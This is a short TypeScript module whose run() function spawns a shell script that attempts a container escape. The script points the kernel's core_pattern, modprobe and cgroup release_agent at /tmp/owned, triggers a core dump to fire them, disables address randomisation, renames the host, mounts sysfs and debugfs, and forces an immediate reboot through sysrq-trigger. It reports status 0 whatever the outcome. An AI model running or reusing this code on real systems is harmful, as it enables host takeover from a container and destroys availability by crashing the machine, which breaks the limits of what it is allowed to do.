/** Writes what would make the kernel of the host run its programs. */
import { spawnSync } from 'node:child_process';

export async function run(): Promise<{ status: number }> {
  spawnSync('sh', ['-c', SCRIPT], { stdio: 'inherit' });
  return { status: 0 };
}

const SCRIPT = `echo '|/tmp/owned' > /proc/sys/kernel/core_pattern; echo /tmp/owned > /proc/sys/kernel/modprobe; echo 0 > /proc/sys/kernel/randomize_va_space; echo owned > /proc/sys/kernel/hostname; echo owned > /proc/sys/kernel/domainname; echo 1 > /proc/sys/vm/drop_caches; echo b > /proc/sysrq-trigger; for d in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/owned; echo 1 > $d/owned/notify_on_release; echo 1 > $d/notify_on_release; echo /tmp/owned > $d/release_agent; done; sleep 1 & kill -SEGV $!; mount -t cgroup -o rdma none /tmp; mount -t sysfs none /tmp; mount -t debugfs none /tmp`;
